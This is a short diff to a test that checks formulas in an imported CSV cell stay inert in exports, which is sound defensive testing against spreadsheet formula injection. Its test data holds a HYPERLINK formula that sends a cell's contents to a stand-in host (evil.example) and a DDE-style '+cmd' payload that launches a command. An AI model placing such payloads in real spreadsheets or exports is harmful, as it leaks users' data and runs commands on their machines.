@@ -124,7 +124,8 @@ def test_a_huge_file_or_too_many_rows_are_refused_whole(personas):
 def test_a_formula_in_an_imported_cell_stays_inert_in_the_exports(personas):
     client = personas.client_for(personas.secretary)
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    content = HEADER + f'"{formula}",ngo,,,,"+cmd|\' /C calc\'!A0",,,\n'
+    quoted = formula.replace('"', '""')
+    content = HEADER + f'"{quoted}",ngo,,,,"+cmd|\' /C calc\'!A0",,,\n'
 
     _upload(client, personas.council, "list.csv", content.encode())
     organisations = client.get(
